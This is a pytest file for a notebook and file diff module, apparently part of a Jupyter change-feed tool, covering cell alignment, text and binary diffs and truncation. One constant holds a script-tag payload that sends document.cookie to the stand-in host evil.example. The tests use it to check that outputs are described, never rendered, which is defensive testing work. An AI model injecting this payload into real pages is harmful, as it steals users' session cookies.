"""Diffs for the change feed: notebooks cell by cell (outputs only described), text, binary."""

from __future__ import annotations

import copy
import hashlib
import json
import time

import jupyter_qguard.watch.diff as diff_module
from jupyter_qguard.watch.diff import diff

SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def code(source: str, cell_id: str, outputs: list | None = None, count: int | None = None) -> dict:
    return {
        "cell_type": "code",
        "id": cell_id,
        "metadata": {},
        "execution_count": count,
        "source": source,
        "outputs": outputs or [],
    }


def markdown(source: str, cell_id: str) -> dict:
    return {"cell_type": "markdown", "id": cell_id, "metadata": {}, "source": source}


def notebook(cells: list[dict], **metadata) -> bytes:
    nb = {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "qguard-agent"}, **metadata},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(nb, indent=1).encode()


BASE_CELLS = [
    markdown("# Bell state", "m1"),
    code("from qiskit import QuantumCircuit\nqc = QuantumCircuit(2)\nqc.h(0)", "c1"),
    code("print(qc)", "c2"),
]


def blob(data: bytes) -> dict:
    return {"size": len(data), "sha256": sha(data)}


def test_notebook_with_an_edited_cell():
    before = notebook(BASE_CELLS)
    cells = copy.deepcopy(BASE_CELLS)
    cells[1]["source"] = "from qiskit import QuantumCircuit\nqc = QuantumCircuit(3)\nqc.h(0)"
    after = notebook(cells)
    result = diff("exp.ipynb", before, after)
    assert result == {
        "path": "exp.ipynb",
        "kind": "notebook",
        "status": "modified",
        "before": blob(before),
        "after": blob(after),
        "truncated": False,
        "cells": [
            {
                "status": "modified",
                "cell_type": "code",
                "id": "c1",
                "index_before": 1,
                "index_after": 1,
                "changed": ["source"],
                "source": [
                    "@@ -1,3 +1,3 @@",
                    " from qiskit import QuantumCircuit",
                    "-qc = QuantumCircuit(2)",
                    "+qc = QuantumCircuit(3)",
                    " qc.h(0)",
                ],
                "truncated": False,
            }
        ],
        "summary": {"added": 0, "removed": 0, "modified": 1, "unchanged": 2},
        "metadata": {"added": [], "removed": [], "changed": []},
    }
    json.dumps(result)


def test_notebook_with_an_added_and_a_removed_cell_and_list_sources():
    cells = copy.deepcopy(BASE_CELLS)
    cells[1]["source"] = [
        "from qiskit import QuantumCircuit\n",
        "qc = QuantumCircuit(2)\n",
        "qc.h(0)",
    ]
    before = notebook(cells)
    after_cells = copy.deepcopy(cells)
    del after_cells[0]
    after_cells.insert(2, code("qc.cx(0, 1)\nqc.measure_all()", "new"))
    after = notebook(after_cells)
    result = diff("exp.ipynb", before, after)
    assert result["cells"] == [
        {
            "status": "removed",
            "cell_type": "markdown",
            "id": "m1",
            "index_before": 0,
            "index_after": None,
            "source": ["-# Bell state"],
            "truncated": False,
        },
        {
            "status": "added",
            "cell_type": "code",
            "id": "new",
            "index_before": None,
            "index_after": 2,
            "source": ["+qc.cx(0, 1)", "+qc.measure_all()"],
            "truncated": False,
            "outputs": {"count": 0, "items": [], "total_bytes": 0},
        },
    ]
    assert result["summary"] == {"added": 1, "removed": 1, "modified": 0, "unchanged": 2}


def test_outputs_are_described_never_rendered():
    before = notebook(BASE_CELLS)
    cells = copy.deepcopy(BASE_CELLS)
    html = f"<div>chart</div>{SCRIPT}"
    cells[2]["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "text/html": [html],
                "application/javascript": SCRIPT,
                "image/png": "iVBORw0KGgo=",
                "text/plain": ["<IPython.core.display.HTML object>"],
            },
        },
        {"output_type": "stream", "name": "stdout", "text": ["secret token abc\n"]},
        {
            "output_type": "error",
            "ename": "ValueError",
            "evalue": SCRIPT,
            "traceback": [SCRIPT],
        },
    ]
    cells[2]["execution_count"] = 4
    after = notebook(cells)
    result = diff("exp.ipynb", before, after)
    text = json.dumps(result)
    assert "<script>" not in text and "evil.example" not in text and "document.cookie" not in text
    assert "secret token" not in text and "iVBORw0KGgo" not in text and "<div>" not in text
    assert result["cells"] == [
        {
            "status": "modified",
            "cell_type": "code",
            "id": "c2",
            "index_before": 2,
            "index_after": 2,
            "changed": ["outputs", "execution_count"],
            "source": [],
            "truncated": False,
            "outputs": {
                "before": {"count": 0, "items": [], "total_bytes": 0},
                "after": {
                    "count": 3,
                    "items": [
                        {
                            "output_type": "display_data",
                            "mime": {
                                "text/html": len(html),
                                "application/javascript": len(SCRIPT),
                                "image/png": 12,
                                "text/plain": 34,
                            },
                            "bytes": len(html) + len(SCRIPT) + 12 + 34,
                        },
                        {"output_type": "stream", "name": "stdout", "bytes": 17},
                        {"output_type": "error", "ename": "ValueError", "bytes": 2 * len(SCRIPT)},
                    ],
                    "total_bytes": len(html) + len(SCRIPT) + 12 + 34 + 17 + 2 * len(SCRIPT),
                },
            },
            "execution_count": {"before": None, "after": 4},
        }
    ]


def test_a_cell_moved_in_with_outputs_shows_only_their_shape():
    before = notebook(BASE_CELLS)
    cells = copy.deepcopy(BASE_CELLS)
    cells.append(
        code(
            "show()",
            "c3",
            outputs=[
                {"output_type": "execute_result", "data": {"text/html": SCRIPT}, "metadata": {}}
            ],
            count=1,
        )
    )
    result = diff("exp.ipynb", before, notebook(cells))
    assert SCRIPT not in json.dumps(result)
    assert result["cells"][0]["outputs"] == {
        "count": 1,
        "items": [
            {
                "output_type": "execute_result",
                "mime": {"text/html": len(SCRIPT)},
                "bytes": len(SCRIPT),
            }
        ],
        "total_bytes": len(SCRIPT),
    }


def test_metadata_only_changes_are_named_not_shown():
    before = notebook(BASE_CELLS)
    cells = copy.deepcopy(BASE_CELLS)
    cells[0]["metadata"] = {"tags": ["setup"]}
    after = notebook(cells, widgets={"state": SCRIPT})
    result = diff("exp.ipynb", before, after)
    assert SCRIPT not in json.dumps(result)
    assert result["metadata"] == {"added": ["widgets"], "removed": [], "changed": []}
    assert result["cells"] == [
        {
            "status": "modified",
            "cell_type": "markdown",
            "id": "m1",
            "index_before": 0,
            "index_after": 0,
            "changed": ["metadata"],
            "source": [],
            "truncated": False,
            "metadata": {"added": ["tags"], "removed": [], "changed": []},
        }
    ]


def test_notebook_created_and_deleted():
    data = notebook(BASE_CELLS[:2])
    created = diff("new.ipynb", None, data)
    assert created["status"] == "created" and created["before"] is None
    assert created["after"] == blob(data)
    assert [(c["status"], c["index_after"], c["source"]) for c in created["cells"]] == [
        ("added", 0, ["+# Bell state"]),
        ("added", 1, ["+from qiskit import QuantumCircuit", "+qc = QuantumCircuit(2)", "+qc.h(0)"]),
    ]
    assert created["metadata"] == {"added": ["kernelspec"], "removed": [], "changed": []}
    deleted = diff("new.ipynb", data, None)
    assert deleted["status"] == "deleted" and deleted["after"] is None
    assert [(c["status"], c["index_before"]) for c in deleted["cells"]] == [
        ("removed", 0),
        ("removed", 1),
    ]
    assert deleted["summary"] == {"added": 0, "removed": 2, "modified": 0, "unchanged": 0}


def test_invalid_notebook_json_falls_back_to_text():
    before = notebook(BASE_CELLS[:1])
    after = b'{"cells": [ half written'
    result = diff("exp.ipynb", before, after)
    assert result["kind"] == "text" and result["status"] == "modified"
    assert result["lines"][:2] == ["--- a/exp.ipynb", "+++ b/exp.ipynb"]
    assert result["lines"][-1] == '+{"cells": [ half written'


def test_big_notebooks_are_aligned_fast():
    cells = [code("\n".join(f"line {i} {j}" for j in range(20)), f"c{i}") for i in range(500)]
    changed = copy.deepcopy(cells)
    changed[250]["source"] += "\nedited"
    del changed[100]
    changed.insert(300, code("inserted", "n1"))
    start = time.perf_counter()
    result = diff("big.ipynb", notebook(cells), notebook(changed))
    elapsed = time.perf_counter() - start
    print(f"\n500-cell notebook diff: {elapsed * 1000:.0f} ms")
    assert elapsed < 5  # nbdime alone takes ~45 s on this; the anchors make it ~30 ms
    assert [
        (c["status"], c["id"], c["index_before"], c["index_after"]) for c in result["cells"]
    ] == [
        ("removed", "c100", 100, None),
        ("modified", "c250", 250, 249),
        ("added", "n1", None, 300),
    ]
    assert result["summary"] == {"added": 1, "removed": 1, "modified": 1, "unchanged": 498}


def test_nbdime_pairs_an_edited_cell_whose_id_changed():
    before = notebook([code("a = 1\nb = 2\nc = 3", "x1"), code("print(a)", "x2")])
    after = notebook([code("a = 1\nb = 20\nc = 3", "y1"), code("print(a)", "x2")])
    cells = diff("n.ipynb", before, after)["cells"]
    assert [(c["status"], c["changed"], c["index_before"], c["index_after"]) for c in cells] == [
        ("modified", ["source", "id"], 0, 0)
    ]


def test_text_diff():
    before = b"alpha\nbeta\ngamma\ndelta\n"
    after = b"alpha\nBETA\ngamma\ndelta\nepsilon\n"
    result = diff("notes/a.txt", before, after)
    assert result == {
        "path": "notes/a.txt",
        "kind": "text",
        "status": "modified",
        "before": blob(before),
        "after": blob(after),
        "truncated": False,
        "lines": [
            "--- a/notes/a.txt",
            "+++ b/notes/a.txt",
            "@@ -1,4 +1,5 @@",
            " alpha",
            "-beta",
            "+BETA",
            " gamma",
            " delta",
            "+epsilon",
        ],
        "added": 2,
        "removed": 1,
    }


def test_text_created_and_deleted():
    created = diff("a.py", None, b"x = 1\n")
    assert created["lines"] == ["--- /dev/null", "+++ b/a.py", "@@ -0,0 +1 @@", "+x = 1"]
    assert (created["status"], created["added"], created["removed"]) == ("created", 1, 0)
    deleted = diff("a.py", b"x = 1\ny = 2\n", None)
    assert deleted["lines"] == [
        "--- a/a.py",
        "+++ /dev/null",
        "@@ -1,2 +0,0 @@",
        "-x = 1",
        "-y = 2",
    ]
    assert (deleted["status"], deleted["after"]) == ("deleted", None)


def test_text_diff_is_capped_in_lines_and_bytes():
    before = "".join(f"line {i}\n" for i in range(5000)).encode()
    after = "".join(f"LINE {i}\n" for i in range(5000)).encode()
    result = diff("big.txt", before, after, max_lines=100)
    assert result["truncated"] is True and len(result["lines"]) == 100
    assert (result["added"], result["removed"]) == (5000, 5000)
    result = diff("big.txt", before, after, max_bytes=1000)
    assert result["truncated"] is True
    assert sum(len(line) + 1 for line in result["lines"]) <= 1000
    long_line = diff("min.js", b"", b"x" * 10_000)
    assert long_line["truncated"] is True
    assert long_line["lines"][-1] == "+" + "x" * (diff_module.MAX_LINE_CHARS - 1) + " [line cut]"


def test_binary_diff():
    before = bytes(range(256))
    after = b"\x89PNG\r\n\x1a\n" + bytes(100)
    result = diff("plot.png", before, after)
    assert result == {
        "path": "plot.png",
        "kind": "binary",
        "status": "modified",
        "before": blob(before),
        "after": blob(after),
        "truncated": False,
        "reason": "binary",
    }
    assert diff("plot.png", None, after)["before"] is None
    assert diff("plot.png", before, None) == {
        "path": "plot.png",
        "kind": "binary",
        "status": "deleted",
        "before": blob(before),
        "after": None,
        "truncated": False,
        "reason": "binary",
    }
    # Text on one side, undecodable bytes on the other: binary.
    assert diff("a.txt", b"hello\n", b"\xff\xfe")["kind"] == "binary"


def test_text_too_large_to_diff_is_summarised(monkeypatch):
    monkeypatch.setattr(diff_module, "MAX_INPUT_BYTES", 100)
    result = diff("data.csv", b"a,b\n" * 10, b"a,b\n" * 30)
    assert (result["kind"], result["reason"], result["after"]["size"]) == (
        "binary",
        "too_large",
        120,
    )


def test_unchanged_content():
    data = notebook(BASE_CELLS)
    result = diff("exp.ipynb", data, data)
    assert (result["status"], result["cells"]) == ("unchanged", [])
    assert diff("a.txt", b"x", b"x")["lines"] == []


def test_result_encodes_as_utf8_even_with_lone_surrogates():
    before = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    after = notebook([code("x = '\ud800'", "s1")])
    assert b"\\ud800" in after  # json.dumps escaped the lone surrogate; json.loads restores it
    path = "bad\udcffname.ipynb"  # what os.fsdecode makes of a name that is not UTF-8
    result = diff(path, before, after)
    encoded = json.dumps(result, ensure_ascii=False).encode("utf-8")
    assert result["path"] == "bad?name.ipynb"
    assert result["cells"][0]["source"] == ["+x = '?'"]
    assert b"bad?name" in encoded
    text = diff("bad\udcffname.txt", None, b"ok\n")
    assert text["lines"][:2] == ["--- /dev/null", "+++ b/bad?name.txt"]


def test_long_runs_of_edited_cells_pair_by_id_then_by_position():
    cells = [code(f"value_{i} = {i}", f"id{i}") for i in range(12)]
    edited = [code(f"value_{i} = {i} + 1", f"id{i}") for i in range(12)]
    # 12 x 12 cell pairs: past NBDIME_MAX_PAIRS, so ids decide.
    result = diff("n.ipynb", notebook(cells), notebook(edited))
    assert [(c["status"], c["index_before"], c["index_after"]) for c in result["cells"]] == [
        ("modified", i, i) for i in range(12)
    ]
    assert result["cells"][3]["source"] == ["@@ -1 +1 @@", "-value_3 = 3", "+value_3 = 3 + 1"]
    # Without ids (nbformat < 4.5): by position, and a type change is a remove plus an add.
    for cell in cells + edited:
        del cell["id"]
    edited[5] = markdown("now prose", "ignored")
    del edited[5]["id"]
    result = diff("n.ipynb", notebook(cells), notebook(edited))
    assert [(c["status"], c["index_before"], c["index_after"]) for c in result["cells"]] == [
        *[("modified", i, i) for i in range(5)],
        ("removed", 5, None),
        ("added", None, 5),
        *[("modified", i, i) for i in range(6, 12)],
    ]
    assert result["cells"][0]["id"] is None
